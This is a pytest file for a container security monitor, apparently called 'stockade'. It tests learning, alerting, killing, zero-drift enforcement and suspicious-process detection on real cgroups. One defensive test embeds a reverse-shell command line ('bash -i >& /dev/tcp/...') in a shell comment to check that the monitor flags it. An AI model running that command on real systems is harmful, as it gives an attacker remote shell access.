"""The monitor's decisions on real processes in a real cgroup (root): Discover learns, Monitor
alerts, Protect kills, zero-drift allows only the image's executables, the suspicious list, and
what is kept of a process that ended before it could be read."""

from __future__ import annotations

import contextlib
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from stockade.identity import Directory, Workload
from stockade.model import Event
from stockade.runtime.container import SLICE, cgroup2_root
from stockade.runtime.image import ImageFiles, sha256_of
from stockade.runtime.monitor import Monitor, Root
from stockade.runtime.procevents import ProcEvent
from stockade.runtime.profile import Profile, Profiles, Selector, Spec
from tests.support import require

pytestmark = pytest.mark.root
SLEEP = os.path.realpath(shutil.which("sleep") or "/bin/sleep")
CAT = os.path.realpath(shutil.which("cat") or "/bin/cat")


SPAWNED: list[subprocess.Popen[bytes]] = []


@pytest.fixture
def cgroup() -> Iterator[tuple[Path, Workload]]:
    require(os.geteuid() == 0, "cgroups and /proc of other processes need root")
    name = f"test-{os.getpid()}"
    folder = cgroup2_root() / SLICE / name
    folder.mkdir(parents=True)
    w = Workload(
        name="orders", namespace="shop", labels=(("tier", "api"),), cgroups=(f"/{SLICE}/{name}",)
    )
    try:
        yield folder, w
    finally:
        (folder / "cgroup.kill").write_text("1")
        while SPAWNED:
            p = SPAWNED.pop()
            p.kill()
            p.wait()
            if p.stdin is not None:
                p.stdin.close()
        for _ in range(200):
            try:
                folder.rmdir()
                break
            except OSError:
                time.sleep(0.01)
        with contextlib.suppress(OSError):
            folder.parent.rmdir()  # unless a lab container still uses the slice


def spawn(folder: Path, *argv: str) -> subprocess.Popen[bytes]:
    """``argv`` started inside the cgroup (the container launcher moves itself, then execs)."""
    p = subprocess.Popen(
        [sys.executable, "-m", "stockade.runtime.container", str(folder), "", "--", *argv],
        stdin=subprocess.PIPE,  # cat waits on it
    )
    SPAWNED.append(p)
    # Started means the exec has finished: the executable is argv[0] and the command line is
    # argv. The kernel switches /proc/PID/exe before it lays out the new arguments, so a test
    # that stops at the executable alone can read an empty command line (the process
    # connector's exec event, which the monitor acts on in production, comes after both).
    want = b"\0".join(a.encode() for a in argv) + b"\0"
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        try:
            if (
                os.readlink(f"/proc/{p.pid}/exe") == os.path.realpath(argv[0])
                and Path(f"/proc/{p.pid}/cmdline").read_bytes() == want
            ):
                return p
        except OSError:
            pass
        time.sleep(0.01)
    p.kill()
    raise AssertionError(f"{argv[0]} did not start")


def monitor(
    w: Workload,
    mode: str,
    processes=(),
    *,
    image: ImageFiles | None = None,
    zero_drift: bool = False,
) -> tuple[Monitor, list[Event]]:
    events: list[Event] = []
    profiles = Profiles(
        spec=Spec(
            profiles=[
                Profile(
                    name="shop.orders",
                    selector=Selector(namespace="shop"),
                    mode=mode,
                    zero_drift=zero_drift,
                    processes=list(processes),
                )
            ]
        )
    )
    mon = Monitor(
        directory=Directory([w]),
        roots={w.display(): Root(path="/", image=image)},
        profiles=profiles,
        emit=events.extend,
    )
    return mon, events


def test_discover_learns_then_monitor_alerts_and_protect_kills(cgroup) -> None:
    folder, w = cgroup
    mon, events = monitor(w, "discover")
    p = spawn(folder, SLEEP, "30")
    mon.handle([ProcEvent("exec", p.pid, p.pid)])
    learned = mon.learned().spec.profiles[0].processes
    assert [(x.path, x.sha256) for x in learned] == [(SLEEP, sha256_of(SLEEP))]
    assert events == [] and mon.stats.learned == 1

    mon, events = monitor(w, "monitor", learned)
    other = spawn(folder, CAT)
    mon.handle([ProcEvent("exec", p.pid, p.pid), ProcEvent("exec", other.pid, other.pid)])
    assert [(e.kind, e.data["exe"], e.action) for e in events] == [
        ("process.violation", CAT, "alert")
    ]
    assert events[0].resource is not None and events[0].resource.name == "orders"
    assert other.poll() is None  # Monitor does not touch it

    mon, events = monitor(w, "protect", learned)
    mon.handle([ProcEvent("exec", p.pid, p.pid), ProcEvent("exec", other.pid, other.pid)])
    assert [(e.kind, e.data["exe"], e.action) for e in events] == [("process.killed", CAT, "kill")]
    assert other.wait(5) == -9 and p.poll() is None


def test_zero_drift_allows_the_image_and_nothing_else(cgroup) -> None:
    folder, w = cgroup
    image = ImageFiles({SLEEP: sha256_of(SLEEP), CAT: "0" * 64})  # cat: same path, other bytes
    mon, events = monitor(w, "protect", image=image, zero_drift=True)
    p, other = spawn(folder, SLEEP, "30"), spawn(folder, CAT)
    mon.handle([ProcEvent("exec", p.pid, p.pid), ProcEvent("exec", other.pid, other.pid)])
    assert [(e.kind, e.data["exe"], e.rule) for e in events] == [
        ("process.killed", CAT, "zero-drift")
    ]
    assert other.wait(5) == -9 and p.poll() is None and mon.stats.learned == 0


def test_a_reverse_shell_command_line_is_suspicious_and_not_learned(cgroup) -> None:
    folder, w = cgroup
    bash = os.path.realpath(shutil.which("bash") or "/bin/bash")
    mon, events = monitor(w, "discover")
    # harmless: the pattern is in a comment, the shell just sleeps
    p = spawn(folder, bash, "-c", f"{SLEEP} 30; true # bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")
    mon.handle([ProcEvent("exec", p.pid, p.pid)])
    assert [(e.kind, e.rule, e.action) for e in events] == [
        ("process.suspicious", "process.reverse_shell", "alert")
    ]
    assert mon.stats.learned == 0 and p.poll() is None


def test_a_process_gone_before_it_is_read_keeps_what_the_event_gave(cgroup) -> None:
    folder, w = cgroup
    mon, events = monitor(w, "monitor")
    parent = spawn(folder, SLEEP, "30")
    child = subprocess.Popen(["/bin/true"])
    child.wait()  # gone, its pid no longer in /proc
    mon.handle(
        [
            ProcEvent("fork", child.pid, child.pid, parent.pid, parent.pid),
            ProcEvent("exec", child.pid, child.pid),
            ProcEvent("exit", child.pid, child.pid, parent.pid, parent.pid),
        ]
    )
    assert [e.kind for e in events] == ["process.unverified"]
    data = events[0].data
    assert data["exe"] is None and data["pid"] == child.pid and data["ppid"] == parent.pid
    assert "not readable" in data["note"]
    assert mon.stats.attributed == 3


def test_processes_outside_every_workload_are_ignored(cgroup) -> None:
    _folder, w = cgroup
    mon, events = monitor(w, "protect")
    mon.handle([ProcEvent("exec", os.getpid(), os.getpid())])
    assert events == [] and mon.stats.attributed == 0
